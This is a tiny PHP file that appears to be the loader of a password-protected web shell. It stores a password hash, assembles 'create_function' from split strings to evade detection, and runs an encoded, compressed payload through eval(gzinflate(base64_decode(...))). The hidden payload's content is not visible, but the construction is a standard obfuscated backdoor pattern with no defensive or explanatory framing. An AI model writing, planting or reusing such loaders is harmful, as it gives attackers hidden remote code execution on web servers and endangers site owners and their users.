<?php
$s_pass = "0de664ecd2be02cdd54234a0d1229b43";
$s_func = "cr"."eate_function";
$x = 'S03OyFdQL8hMzk4tUShJLS5RKEiszMlPTFG3BgA=';
$b = "base64_decode";
eval(gzinflate(base64_decode($x)));
?>
